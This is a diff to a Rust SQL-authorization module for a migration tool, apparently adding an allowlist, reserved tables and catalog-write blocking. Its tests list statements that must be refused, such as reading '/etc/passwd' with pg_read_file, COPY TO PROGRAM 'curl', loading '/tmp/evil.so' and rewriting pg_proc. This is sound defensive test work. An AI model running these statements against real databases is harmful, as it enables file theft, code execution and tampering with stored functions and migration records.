@@ -1,20 +1,29 @@
-//! What a migration plugin's `sql` grant admits, decided by parsing.
+//! What a migration plugin's `sql` grant admits, decided by parsing: the
+//! first, friendly refusal. The boundary is the database engine itself
+//! (`authorizer.rs` on SQLite, `role.rs` on PostgreSQL); this check names
+//! the statement and the grant that would admit it before anything runs.
 //!
 //! Each statement is parsed in the target database's dialect (sqlparser)
 //! and admitted only when the grant covers every statement inside it:
-//! `read` (SELECT / WITH, without `nextval` / `setval`), `write` (+ INSERT,
-//! UPDATE, DELETE, MERGE, sequence moves),
-//! `ddl` (+ CREATE / ALTER / DROP / COMMENT of tables, indexes, views and
-//! sequences). Everything else — transaction control, ATTACH, PRAGMA
-//! writes, COPY, LOAD, SET (ROLE, SESSION AUTHORIZATION, timeouts), DO,
-//! CALL, GRANT, functions and triggers — no grant admits, and neither do
-//! the functions in [`DENIED_FUNCTIONS`], wherever they appear. A statement
-//! gantry cannot parse is refused, never passed through.
+//! `read` (SELECT / WITH), `write` (+ INSERT, UPDATE, DELETE, MERGE and
+//! sequence moves), `ddl` (+ CREATE / ALTER / DROP / COMMENT of tables,
+//! indexes, views and sequences). Functions are admitted from an allowlist
+//! (`functions.rs`), wherever they appear — expressions, `FROM f(…)`,
+//! LATERAL. Relations named `gantry_*` or the sqlx history table are never
+//! reachable; catalogs (`pg_catalog`, `information_schema`, `pg_toast`,
+//! `sqlite_*`) only in a statement that reads. Everything else is refused,
+//! and so is anything gantry cannot parse.
+//!
+//! What runs is the statement *as gantry read it*: the parsed statement
+//! printed back (`Admitted::text`), so a comment or quoting that sqlparser
+//! and the server would read differently cannot smuggle a second meaning
+//! past the check.
 
+use super::functions::{self, FunctionRefusal};
 use crate::db::Dialect;
 use sqlparser::ast::{
-    AlterTableOperation, CommentObject, Expr, ObjectName, ObjectType, Query, SetExpr, Statement,
-    Visit, Visitor,
+    AlterTableOperation, CommentObject, Expr, ObjectName, ObjectNamePart, ObjectType, Query,
+    SetExpr, Statement, TableFactor, Value, Visit, Visitor, visit_expressions_mut,
 };
 use sqlparser::dialect::{PostgreSqlDialect, SQLiteDialect};
 use sqlparser::parser::Parser;
@@ -56,40 +65,41 @@ impl fmt::Display for SqlGrant {
     }
 }
 
-/// Functions no plugin may call, matched on the last part of the name
-/// (`public.dblink` is `dblink`); a name ending in `*` is a prefix.
-pub const DENIED_FUNCTIONS: &[&str] = &[
-    "dblink*",
-    "lo_*",
-    "pg_read_file",
-    "pg_read_binary_file",
-    "pg_ls_dir",
-    "pg_stat_file",
-    "pg_file_write",
-    "pg_terminate_backend",
-    "pg_cancel_backend",
-    "pg_reload_conf",
-    "pg_rotate_logfile",
-    "pg_promote",
-    // Would lift the statement timeout that keeps the call's deadline.
-    "set_config",
-    // Run SQL given as text, past this check.
-    "query_to_xml*",
-    "cursor_to_xml*",
-    // SQLite: native code and files.
-    "load_extension",
-    "readfile",
-    "writefile",
-    "edit",
-    "fts3_tokenizer",
-];
+/// Relations no plugin reaches, whatever its grant: gantry's own records
+/// (`gantry_*`) and the sqlx history table (its configured name).
+#[derive(Debug, Clone)]
+pub struct Reserved {
+    sqlx_table: String,
+}
 
-/// Functions that change the database, so a SELECT calling them needs
-/// `write`.
-const WRITING_FUNCTIONS: &[&str] = &["nextval", "setval"];
+impl Default for Reserved {
+    fn default() -> Self {
+        Reserved::new("_sqlx_migrations")
+    }
+}
 
-/// SQLite pragmas that only read, admitted under `read` without a value.
-const READ_PRAGMAS: &[&str] = &[
+impl Reserved {
+    pub fn new(sqlx_table: &str) -> Reserved {
+        Reserved {
+            sqlx_table: sqlx_table.to_ascii_lowercase(),
+        }
+    }
+
+    /// Whether a relation's plain name (any case) is reserved.
+    pub fn covers(&self, name: &str) -> bool {
+        let name = name.to_ascii_lowercase();
+        name.starts_with("gantry_") || name == self.sqlx_table || name == "_sqlx_migrations"
+    }
+
+    /// The sqlx history table's name, as configured.
+    pub fn sqlx_table(&self) -> &str {
+        &self.sqlx_table
+    }
+}
+
+/// SQLite pragmas that only read, admitted under `read` (with a table or
+/// index name as their argument where they take one).
+pub const READ_PRAGMAS: &[&str] = &[
     "table_info",
     "table_xinfo",
     "table_list",
@@ -105,6 +115,16 @@ const READ_PRAGMAS: &[&str] = &[
     "application_id",
 ];
 
+/// Pragmas whose argument would set a value rather than name a table.
+const VALUE_PRAGMAS: &[&str] = &["user_version", "schema_version", "application_id"];
+
+/// Whether `pragma` with `argument` only reads.
+pub fn pragma_reads(pragma: &str, argument: Option<&str>) -> bool {
+    let pragma = pragma.to_ascii_lowercase();
+    READ_PRAGMAS.contains(&pragma.as_str())
+        && (argument.is_none() || !VALUE_PRAGMAS.contains(&pragma.as_str()))
+}
+
 /// Why a statement was not admitted.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Refusal {
@@ -118,41 +138,65 @@ pub enum Refusal {
     Unreadable(String),
 }
 
+/// A statement the grant admits, printed back as gantry read it, with
+/// placeholders in the dialect's own style (`?1` on SQLite).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Admitted {
+    pub text: String,
+}
+
 /// Admits `statement` under `grant`, or says why not, naming the
 /// statement's first words.
-pub fn admit(dialect: Dialect, grant: SqlGrant, statement: &str) -> Result<(), String> {
-    check(dialect, grant, statement).map_err(|refusal| {
-        let words = first_words(statement);
-        match refusal {
-            Refusal::Needs { needs, granted } => format!(
-                "`{words}` needs sql = \"{needs}\"; this plugin's grant is sql = \"{granted}\""
-            ),
-            Refusal::Never(what) => {
-                format!("`{words}` is refused: {what}; no sql grant admits it")
-            }
-            Refusal::NotOne(0) => "no statement to run".to_string(),
-            Refusal::NotOne(n) => {
-                format!("`{words}` holds {n} statements; send one statement per call")
-            }
-            Refusal::Unreadable(why) => format!(
-                "`{words}` is refused: gantry could not parse it as {dialect} SQL ({why}); only statements it can read are admitted"
-            ),
+pub fn admit(
+    dialect: Dialect,
+    grant: SqlGrant,
+    statement: &str,
+    reserved: &Reserved,
+) -> Result<Admitted, String> {
+    check(dialect, grant, statement, reserved).map_err(|refusal| explain(dialect, statement, refusal))
+}
+
+/// A refusal as a message naming the statement's first words.
+pub fn explain(dialect: Dialect, statement: &str, refusal: Refusal) -> String {
+    let words = first_words(statement);
+    match refusal {
+        Refusal::Needs { needs, granted } => format!(
+            "`{words}` needs sql = \"{needs}\"; this plugin's grant is sql = \"{granted}\""
+        ),
+        Refusal::Never(what) => {
+            format!("`{words}` is refused: {what}; no sql grant admits it")
         }
-    })
+        Refusal::NotOne(0) => "no statement to run".to_string(),
+        Refusal::NotOne(n) => {
+            format!("`{words}` holds {n} statements; send one statement per call")
+        }
+        Refusal::Unreadable(why) => format!(
+            "`{words}` is refused: gantry could not parse it as {dialect} SQL ({why}); only statements it can read are admitted"
+        ),
+    }
 }
 
 /// The decision without the message.
-pub fn check(dialect: Dialect, grant: SqlGrant, statement: &str) -> Result<(), Refusal> {
+pub fn check(
+    dialect: Dialect,
+    grant: SqlGrant,
+    statement: &str,
+    reserved: &Reserved,
+) -> Result<Admitted, Refusal> {
     let parsed = match dialect {
         Dialect::Postgres => Parser::parse_sql(&PostgreSqlDialect {}, statement),
         Dialect::Sqlite => Parser::parse_sql(&SQLiteDialect {}, statement),
     }
     .map_err(|e| Refusal::Unreadable(e.to_string()))?;
-    let [statement] = parsed.as_slice() else {
-        return Err(Refusal::NotOne(parsed.len()));
-    };
+    let [statement] = <[Statement; 1]>::try_from(parsed).map_err(|all| Refusal::NotOne(all.len()))?;
+    let mut statement = statement;
+    let level = statement_level(&statement, reserved).map_err(Refusal::Never)?;
     let mut needs = Needs {
-        level: SqlGrant::Read,
+        dialect,
+        grant,
+        level,
+        reserved,
+        writes: level > SqlGrant::Read,
     };
     if let ControlFlow::Break(refusal) = statement.visit(&mut needs) {
         return Err(refusal);
@@ -163,27 +207,62 @@ pub fn check(dialect: Dialect, grant: SqlGrant, statement: &str) -> Result<(), R
             granted: grant,
         });
     }
-    Ok(())
+    if dialect == Dialect::Sqlite {
+        // `$1` → `?1`: SQLite's own numbered parameters, bound by position.
+        let _ = visit_expressions_mut(&mut statement, |expr| {
+            if let Expr::Value(value) = expr
+                && let Value::Placeholder(name) = &mut value.value
+                && let Some(number) = name.strip_prefix('$')
+                && number.bytes().all(|b| b.is_ascii_digit())
+            {
+                *name = format!("?{number}");
+            }
+            ControlFlow::<()>::Continue(())
+        });
+    }
+    Ok(Admitted {
+        text: statement.to_string(),
+    })
 }
 
 /// Walks every statement, query, expression and relation inside one
 /// statement, raising the level it needs or breaking with a refusal.
-struct Needs {
+struct Needs<'a> {
+    dialect: Dialect,
+    grant: SqlGrant,
     level: SqlGrant,
+    reserved: &'a Reserved,
+    /// The statement changes something: catalogs are out of its reach.
+    writes: bool,
 }
 
-impl Needs {
+impl Needs<'_> {
     fn raise(&mut self, level: SqlGrant) -> ControlFlow<Refusal> {
         self.level = self.level.max(level);
+        if level > SqlGrant::Read {
+            self.writes = true;
+        }
         ControlFlow::Continue(())
+    }
+
+    fn function(&mut self, name: &ObjectName) -> ControlFlow<Refusal> {
+        let plain = match plain_function(self.dialect, name) {
+            Ok(plain) => plain,
+            Err(why) => return ControlFlow::Break(Refusal::Never(why)),
+        };
+        match functions::admit(self.dialect, self.grant, &plain) {
+            Ok(()) => ControlFlow::Continue(()),
+            Err(FunctionRefusal::Needs(level)) => self.raise(level),
+            Err(FunctionRefusal::Never(why)) => ControlFlow::Break(Refusal::Never(why)),
+        }
     }
 }
 
-impl Visitor for Needs {
+impl Visitor for Needs<'_> {
     type Break = Refusal;
 
     fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<Refusal> {
-        match statement_level(statement) {
+        match statement_level(statement, self.reserved) {
             Ok(level) => self.raise(level),
             Err(why) => ControlFlow::Break(Refusal::Never(why)),
         }
@@ -199,18 +278,105 @@ impl Visitor for Needs {
 
     fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<Refusal> {
         if let Expr::Function(function) = expr {
-            denied(&function.name)?;
-            if last_part(&function.name).is_some_and(|f| WRITING_FUNCTIONS.contains(&f.as_str())) {
-                return self.raise(SqlGrant::Write);
-            }
+            return self.function(&function.name);
         }
         ControlFlow::Continue(())
     }
 
-    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<Refusal> {
-        // A table function in FROM (`FROM dblink(…)`) is a relation here.
-        denied(relation)
+    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<Refusal> {
+        match factor {
+            // `FROM f(…)` is a table with arguments.
+            TableFactor::Table { name, args, .. } => {
+                if args.is_some() {
+                    return self.function(name);
+                }
+                ControlFlow::Continue(())
+            }
+            TableFactor::Function { name, .. } => self.function(name),
+            // Their expressions and queries are visited on their own.
+            TableFactor::Derived { .. }
+            | TableFactor::TableFunction { .. }
+            | TableFactor::UNNEST { .. }
+            | TableFactor::NestedJoin { .. } => ControlFlow::Continue(()),
+            other => ControlFlow::Break(Refusal::Never(format!(
+                "the table expression `{}` is not one gantry admits",
+                first_words(&other.to_string())
+            ))),
+        }
     }
+
+    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<Refusal> {
+        if let Some(why) = reserved_relation(relation, self.reserved) {
+            return ControlFlow::Break(Refusal::Never(why));
+        }
+        if self.dialect == Dialect::Sqlite
+            && last_part(relation).is_some_and(|name| {
+                matches!(
+                    name.as_str(),
+                    "sqlite_master" | "sqlite_schema" | "sqlite_temp_master" | "sqlite_temp_schema"
+                )
+            })
+        {
+            return ControlFlow::Break(Refusal::Never(format!(
+                "{relation} is SQLite's schema table, which no plugin reads"
+            )));
+        }
+        if self.writes && catalog_relation(relation) {
+            return ControlFlow::Break(Refusal::Never(format!(
+                "{relation} is a system catalog, which only a statement that reads may use"
+            )));
+        }
+        ControlFlow::Continue(())
+    }
+}
+
+/// A function's plain name: unqualified, or qualified with the catalog
+/// schema whose functions the allowlist names (`pg_catalog.lower`).
+fn plain_function(dialect: Dialect, name: &ObjectName) -> Result<String, String> {
+    let parts: Vec<String> = name
+        .0
+        .iter()
+        .map(|part| match part {
+            ObjectNamePart::Identifier(ident) => Ok(ident.value.to_ascii_lowercase()),
+            ObjectNamePart::Function(_) => Err(format!("the function name {name} is computed")),
+        })
+        .collect::<Result<_, _>>()?;
+    match parts.as_slice() {
+        [plain] => Ok(plain.clone()),
+        [schema, plain] if dialect == Dialect::Postgres && schema == "pg_catalog" => {
+            Ok(plain.clone())
+        }
+        _ => Err(format!(
+            "the function {name} is qualified; call the functions gantry admits by their plain name"
+        )),
+    }
+}
+
+/// Why a relation is out of every plugin's reach, if it is.
+fn reserved_relation(relation: &ObjectName, reserved: &Reserved) -> Option<String> {
+    let last = last_part(relation)?;
+    reserved
+        .covers(&last)
+        .then(|| format!("{relation} holds gantry's own records, which no plugin may touch"))
+}
+
+/// Whether a relation is a system catalog (by schema or by name).
+fn catalog_relation(relation: &ObjectName) -> bool {
+    let parts: Vec<String> = relation
+        .0
+        .iter()
+        .filter_map(|part| part.as_ident())
+        .map(|ident| ident.value.to_ascii_lowercase())
+        .collect();
+    let schema_is_catalog = parts.len() > 1
+        && parts[..parts.len() - 1].iter().any(|schema| {
+            matches!(schema.as_str(), "pg_catalog" | "information_schema" | "pg_toast")
+                || schema.starts_with("pg_temp")
+        });
+    let name_is_catalog = parts
+        .last()
+        .is_some_and(|name| name.starts_with("pg_") || name.starts_with("sqlite_"));
+    schema_is_catalog || name_is_catalog
 }
 
 /// The last part of a name, lowercased (`public.dblink` is `dblink`).
@@ -219,21 +385,6 @@ fn last_part(name: &ObjectName) -> Option<String> {
         .last()
         .and_then(|part| part.as_ident())
         .map(|ident| ident.value.to_ascii_lowercase())
-}
-
-fn denied(name: &ObjectName) -> ControlFlow<Refusal> {
-    let Some(last) = last_part(name) else {
-        return ControlFlow::Continue(());
-    };
-    let hit = DENIED_FUNCTIONS.iter().any(|denied| match denied.strip_suffix('*') {
-        Some(prefix) => last.starts_with(prefix),
-        None => last == *denied,
-    });
-    if hit {
-        ControlFlow::Break(Refusal::Never(format!("the function {last} is denied")))
-    } else {
-        ControlFlow::Continue(())
-    }
 }
 
 fn selects_into(body: &SetExpr) -> bool {
@@ -245,7 +396,7 @@ fn selects_into(body: &SetExpr) -> bool {
 }
 
 /// The grant one statement (not what is inside it) needs, or why none does.
-fn statement_level(statement: &Statement) -> Result<SqlGrant, String> {
+fn statement_level(statement: &Statement, reserved: &Reserved) -> Result<SqlGrant, String> {
     use SqlGrant::*;
     let ddl_object = |object: &ObjectType| {
         matches!(
@@ -253,14 +404,24 @@ fn statement_level(statement: &Statement) -> Result<SqlGrant, String> {
             ObjectType::Table | ObjectType::Index | ObjectType::View | ObjectType::Sequence
         )
     };
+    let named = |names: &[&ObjectName]| -> Result<(), String> {
+        for name in names {
+            if let Some(why) = reserved_relation(name, reserved) {
+                return Err(why);
+            }
+            if catalog_relation(name) {
+                return Err(format!("{name} is a system catalog"));
+            }
+        }
+        Ok(())
+    };
     Ok(match statement {
         Statement::Query(_) => Read,
         Statement::Pragma { name, value, .. } => {
             let pragma = name.to_string().to_ascii_lowercase();
             let pragma = pragma.rsplit('.').next().unwrap_or_default();
-            let reads = READ_PRAGMAS.contains(&pragma)
-                && (value.is_none() || !matches!(pragma, "user_version" | "schema_version" | "application_id"));
-            if !reads {
+            let argument = value.as_ref().map(|v| v.to_string());
+            if !pragma_reads(pragma, argument.as_deref()) {
                 return Err(format!("PRAGMA {pragma} is not one that only reads"));
             }
             Read
@@ -272,7 +433,11 @@ fn statement_level(statement: &Statement) -> Result<SqlGrant, String> {
         Statement::CreateIndex(_) | Statement::CreateView(_) | Statement::CreateSequence { .. } => {
             Ddl
         }
-        Statement::AlterIndex { .. } | Statement::AlterView(_) => Ddl,
+        Statement::AlterIndex { name, .. } => {
+            named(&[name])?;
+            Ddl
+        }
+        Statement::AlterView(_) => Ddl,
         Statement::AlterTable(alter) => {
             if let Some(op) = alter.operations.iter().find(|op| !table_op(op)) {
                 let op = first_words(&op.to_string());
@@ -280,7 +445,12 @@ fn statement_level(statement: &Statement) -> Result<SqlGrant, String> {
             }
             Ddl
         }
-        Statement::Drop { object_type, .. } if ddl_object(object_type) => Ddl,
+        Statement::Drop {
+            object_type, names, ..
+        } if ddl_object(object_type) => {
+            named(&names.iter().collect::<Vec<_>>())?;
+            Ddl
+        }
         Statement::Comment {
             object_type:
                 CommentObject::Table
@@ -289,8 +459,12 @@ fn statement_level(statement: &Statement) -> Result<SqlGrant, String> {
                 | CommentObject::View
                 | CommentObject::Sequence
                 | CommentObject::MaterializedView,
+            object_name,
             ..
-        } => Ddl,
+        } => {
+            named(&[object_name])?;
+            Ddl
+        }
         Statement::StartTransaction { .. }
         | Statement::Commit { .. }
         | Statement::Rollback { .. }
@@ -358,15 +532,19 @@ mod tests {
     use super::*;
     use SqlGrant::*;
 
+    fn checked(dialect: Dialect, grant: SqlGrant, sql: &str) -> Result<Admitted, Refusal> {
+        check(dialect, grant, sql, &Reserved::default())
+    }
+
     fn ok(dialect: Dialect, grant: SqlGrant, sql: &str) {
-        if let Err(why) = admit(dialect, grant, sql) {
+        if let Err(why) = admit(dialect, grant, sql, &Reserved::default()) {
             panic!("{sql:?} under {grant} on {dialect}: {why}");
         }
     }
 
     fn never(dialect: Dialect, sql: &str) {
-        match check(dialect, Ddl, sql) {
-            Err(Refusal::Never(_)) | Err(Refusal::Unreadable(_)) => {}
+        match checked(dialect, Ddl, sql) {
+            Err(Refusal::Never(_)) | Err(Refusal::Unreadable(_)) | Err(Refusal::NotOne(_)) => {}
             other => panic!("{sql:?} on {dialect}: {other:?}"),
         }
     }
@@ -389,21 +567,32 @@ mod tests {
         ok(Dialect::Postgres, Ddl, "CREATE SEQUENCE s");
         ok(Dialect::Sqlite, Read, "PRAGMA table_info('users')");
         ok(Dialect::Postgres, Read, "SELECT pg_sleep(60)");
+        ok(Dialect::Postgres, Read, "SELECT relname FROM pg_catalog.pg_class");
+        ok(Dialect::Postgres, Read, "SELECT x FROM jsonb_array_elements($1::jsonb) AS t(x)");
+        ok(Dialect::Postgres, Read, "SELECT pg_catalog.lower('A')");
+    }
+
+    #[test]
+    fn what_runs_is_what_was_read() {
+        let admitted = checked(Dialect::Sqlite, Write, "UPDATE t SET a = $1 /* note */ WHERE id = $2").unwrap();
+        assert_eq!(admitted.text, "UPDATE t SET a = ?1 WHERE id = ?2");
+        let admitted = checked(Dialect::Postgres, Read, "SELECT $1::bigint -- trailing").unwrap();
+        assert_eq!(admitted.text, "SELECT $1::BIGINT");
     }
 
     #[test]
     fn a_narrow_grant_names_the_grant_that_would_admit() {
         assert_eq!(
-            check(Dialect::Postgres, Read, "DELETE FROM users"),
+            checked(Dialect::Postgres, Read, "DELETE FROM users"),
             Err(Refusal::Needs { needs: Write, granted: Read })
         );
         assert_eq!(
-            check(Dialect::Sqlite, Write, "DROP TABLE users"),
+            checked(Dialect::Sqlite, Write, "DROP TABLE users"),
             Err(Refusal::Needs { needs: Ddl, granted: Write })
         );
         // A data-modifying CTE is a write; SELECT INTO makes a table.
         assert_eq!(
-            check(
+            checked(
                 Dialect::Postgres,
                 Read,
                 "WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone"
@@ -411,16 +600,17 @@ mod tests {
             Err(Refusal::Needs { needs: Write, granted: Read })
         );
         assert_eq!(
-            check(Dialect::Postgres, Write, "SELECT * INTO copy FROM users"),
+            checked(Dialect::Postgres, Write, "SELECT * INTO copy FROM users"),
             Err(Refusal::Needs { needs: Ddl, granted: Write })
         );
         // Sequences move: a SELECT of nextval is a write.
         assert_eq!(
-            check(Dialect::Postgres, Read, "SELECT nextval('users_id_seq')"),
+            checked(Dialect::Postgres, Read, "SELECT nextval('users_id_seq')"),
             Err(Refusal::Needs { needs: Write, granted: Read })
         );
-        assert!(check(Dialect::Postgres, Write, "SELECT setval('users_id_seq', 10)").is_ok());
-        let why = admit(Dialect::Postgres, Read, "DELETE FROM users WHERE true").unwrap_err();
+        assert!(checked(Dialect::Postgres, Write, "SELECT setval('users_id_seq', 10)").is_ok());
+        let why = admit(Dialect::Postgres, Read, "DELETE FROM users WHERE true", &Reserved::default())
+            .unwrap_err();
         assert!(why.contains("`DELETE FROM users WHERE true`"), "{why}");
         assert!(why.contains("sql = \"write\""), "{why}");
     }
@@ -437,6 +627,7 @@ mod tests {
             "SET SESSION AUTHORIZATION postgres",
             "SET statement_timeout = 0",
             "RESET statement_timeout",
+            "RESET ROLE",
             "DO $$ BEGIN PERFORM 1; END $$",
             "CALL p()",
             "GRANT ALL ON users TO PUBLIC",
@@ -453,11 +644,42 @@ mod tests {
             "SELECT query_to_xml('select 1', true, true, '')",
             "SELECT pg_terminate_backend(1)",
             "SELECT 1; SELECT 2",
+            // Functions in FROM, LATERAL and ROWS FROM.
+            "SELECT * FROM pg_read_file('/etc/passwd') AS f(x)",
+            "SELECT * FROM users, LATERAL pg_read_file('/etc/passwd') AS f(x)",
+            "SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd')) AS f(x)",
+            "SELECT * FROM pg_ls_dir('.')",
+            "SELECT * FROM lo_import('/etc/passwd')",
+            // SQL given as text.
+            "SELECT database_to_xml(true, true, '')",
+            "SELECT table_to_xml('users', true, true, '')",
+            "SELECT * FROM ts_stat('select to_tsvector(pg_read_file(''/etc/passwd''))')",
+            "SELECT xpath('/x', query_to_xml('select 1', true, true, ''))",
+            // Session state.
+            "SELECT pg_advisory_unlock_all()",
+            "SELECT pg_advisory_unlock(1)",
+            "SELECT pg_advisory_lock(1)",
+            "SELECT current_setting('role')",
+            // Qualified names that could be anyone's function.
+            "SELECT public.lower('x')",
+            // Catalogs are never written.
+            "UPDATE pg_catalog.pg_proc SET prosrc = 'x' WHERE proname = 'lower'",
+            "UPDATE pg_proc SET prosrc = 'x'",
+            "DELETE FROM pg_catalog.pg_class",
+            "INSERT INTO information_schema.x VALUES (1)",
+            "DROP TABLE pg_catalog.pg_class",
+            // gantry's own records, at any grant.
+            "SELECT * FROM gantry_migrations",
+            "UPDATE gantry_migrations SET down_script = 'DROP TABLE users'",
+            "DELETE FROM gantry_migration_log",
+            "SELECT * FROM public.GANTRY_MIGRATIONS",
+            "DELETE FROM _sqlx_migrations",
+            "DROP TABLE gantry_migrations",
+            "ALTER TABLE gantry_migrations ADD COLUMN x int",
+            "WITH x AS (SELECT * FROM gantry_migration_log) SELECT * FROM x",
+            "SELECT (SELECT down_script FROM gantry_migrations LIMIT 1)",
         ] {
-            match check(Dialect::Postgres, Ddl, sql) {
-                Err(Refusal::Never(_)) | Err(Refusal::Unreadable(_)) | Err(Refusal::NotOne(2)) => {}
-                other => panic!("{sql:?}: {other:?}"),
-            }
+            never(Dialect::Postgres, sql);
         }
         for sql in [
             "ATTACH DATABASE '/tmp/other.db' AS other",
@@ -468,17 +690,32 @@ mod tests {
             "SELECT load_extension('/tmp/evil.so')",
             "SELECT writefile('/tmp/x', 'y')",
             "VACUUM INTO '/tmp/copy.db'",
+            "SELECT * FROM sqlite_master",
+            "UPDATE sqlite_master SET sql = 'x'",
+            "DELETE FROM gantry_migration_log",
+            "SELECT 1; ATTACH DATABASE 'x' AS y",
         ] {
             never(Dialect::Sqlite, sql);
         }
     }
 
     #[test]
+    fn the_sqlx_table_is_reserved_by_its_configured_name() {
+        let reserved = Reserved::new("app_history");
+        assert!(matches!(
+            check(Dialect::Sqlite, Ddl, "DELETE FROM app_history", &reserved),
+            Err(Refusal::Never(_))
+        ));
+    }
+
+    #[test]
     fn refusals_name_the_first_words() {
-        let why = admit(Dialect::Postgres, Ddl, "COPY users TO PROGRAM 'curl http://x'").unwrap_err();
+        let reserved = Reserved::default();
+        let why = admit(Dialect::Postgres, Ddl, "COPY users TO PROGRAM 'curl http://x'", &reserved)
+            .unwrap_err();
         assert!(why.starts_with("`COPY users TO PROGRAM 'curl"), "{why}");
         assert!(why.contains("no sql grant admits it"), "{why}");
-        let why = admit(Dialect::Sqlite, Ddl, "ATTACH DATABASE 'x' AS y").unwrap_err();
+        let why = admit(Dialect::Sqlite, Ddl, "ATTACH DATABASE 'x' AS y", &reserved).unwrap_err();
         assert!(why.contains("ATTACH"), "{why}");
     }
 }
